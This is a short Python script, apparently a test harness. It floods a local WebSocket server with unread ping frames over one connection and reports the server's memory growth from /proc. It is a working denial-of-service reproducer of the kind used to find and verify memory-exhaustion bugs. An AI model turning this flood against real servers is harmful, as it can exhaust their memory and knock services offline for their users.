#!/usr/bin/env python3
"""pingflood.py PORT PID [N]: one connection sends N masked 125-byte pings and never reads; prints server RSS."""
import socket, os, sys, base64, time
port, pid = int(sys.argv[1]), int(sys.argv[2]); n = int(sys.argv[3]) if len(sys.argv) > 3 else 400000
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS:"): return int(l.split()[1])
s = socket.create_connection(("127.0.0.1", port))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(f"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
buf = b""
while b"\r\n\r\n" not in buf: buf += s.recv(1)
mask = b"\0\0\0\0"
ping = bytes([0x89, 0x80 | 125]) + mask + b"p" * 125
batch = ping * 1000
r0 = rss(); t0 = time.time(); sent = 0
s.settimeout(5)
try:
    while sent < n and time.time() - t0 < 60:
        s.sendall(batch); sent += 1000
except socket.timeout:
    pass
time.sleep(1)
print(f"pings sent={sent} ({sent*131/1e6:.0f} MB) in {time.time()-t0:.1f}s; server rss {r0} -> {rss()} KiB")
